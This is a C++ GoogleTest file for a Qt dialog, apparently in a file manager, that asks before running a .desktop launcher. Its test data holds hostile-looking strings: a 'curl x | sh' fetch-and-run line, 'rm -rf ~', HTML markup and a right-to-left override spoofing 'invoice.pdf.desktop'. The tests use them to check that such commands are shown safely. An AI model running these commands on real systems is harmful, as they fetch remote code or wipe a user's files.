// SPDX-License-Identifier: GPL-3.0-or-later
#include "views/LaunchConfirmationDialog.h"

#include <QAbstractButton>
#include <QMessageBox>
#include <QPushButton>
#include <QTest>

#include <gtest/gtest.h>

#include <memory>
#include <optional>

namespace {

const QString path = QStringLiteral("/home/ann/Downloads/invoice.pdf.desktop");

struct Asked {
    std::unique_ptr<LaunchConfirmationDialog> dialog = std::make_unique<LaunchConfirmationDialog>();
    std::optional<bool> answer;
    int answers = 0;

    QMessageBox* ask(const QString& execLine = QStringLiteral("sh -c 'curl x | sh'")) {
        dialog->ask(path, execLine, [this](bool launch) {
            answer = launch;
            ++answers;
        });
        return dialog->openBox(path);
    }
};

QAbstractButton* button(QMessageBox* box, const QString& text) {
    for (QAbstractButton* candidate : box->buttons())
        if (candidate->text() == text)
            return candidate;
    return nullptr;
}

} // namespace

TEST(LaunchConfirmationDialogTest, OnlyTheRunButtonSaysYes) {
    struct Case {
        const char* action; // a button's text, or "escape"
        bool answer;
    };
    for (const Case& c : {Case{"Run", true}, Case{"Cancel", false}, Case{"escape", false}}) {
        Asked asked;
        QMessageBox* box = asked.ask();
        ASSERT_TRUE(box);
        EXPECT_TRUE(box->isVisible());
        EXPECT_FALSE(asked.answer) << "open() returns at once";
        EXPECT_EQ(static_cast<QAbstractButton*>(box->defaultButton()),
                  button(box, QStringLiteral("Cancel")));
        if (QByteArray(c.action) == "escape")
            QTest::keyClick(box, Qt::Key_Escape);
        else
            button(box, QString::fromLatin1(c.action))->click();
        EXPECT_EQ(asked.answer, c.answer) << c.action;
        EXPECT_EQ(asked.answers, 1);
        EXPECT_FALSE(asked.dialog->openBox(path));
    }
}

TEST(LaunchConfirmationDialogTest, NamesTheFileAndCommandAsPlainText) {
    Asked asked;
    QMessageBox* box =
        asked.ask(QStringLiteral("<b>safe</b>\nrm -rf ~ \u202Etxt.exe") + QString(5000, u'x'));
    ASSERT_TRUE(box);
    EXPECT_EQ(box->textFormat(), Qt::PlainText);
    const QString text = box->text();
    EXPECT_TRUE(text.contains(QStringLiteral("“invoice.pdf.desktop”")));
    EXPECT_TRUE(text.contains(QStringLiteral("File: ") + path));
    EXPECT_TRUE(text.contains(QStringLiteral("Command: <b>safe</b>\uFFFDrm -rf ~ \uFFFDtxt.exe")));
    EXPECT_FALSE(text.contains(QChar(0x202E)));
    EXPECT_LT(text.size(), 2000) << "a long command is shortened";
    EXPECT_TRUE(text.endsWith(QChar(0x2026)));
}

TEST(LaunchConfirmationDialogTest, AskingAgainForTheSameFileKeepsOneQuestion) {
    Asked asked;
    QMessageBox* first = asked.ask();
    std::optional<bool> second;
    asked.dialog->ask(path, QStringLiteral("x"), [&](bool launch) { second = launch; });
    EXPECT_EQ(second, false);
    EXPECT_EQ(asked.dialog->openBox(path), first);
    button(first, QStringLiteral("Run"))->click();
    EXPECT_EQ(asked.answer, true);
}

TEST(LaunchConfirmationDialogTest, GoingAwayClosesTheQuestionUnanswered) {
    Asked asked;
    const QPointer<QMessageBox> box = asked.ask();
    ASSERT_TRUE(box);
    asked.dialog.reset();
    EXPECT_FALSE(box);
    QCoreApplication::processEvents();
    EXPECT_EQ(asked.answers, 0);
}
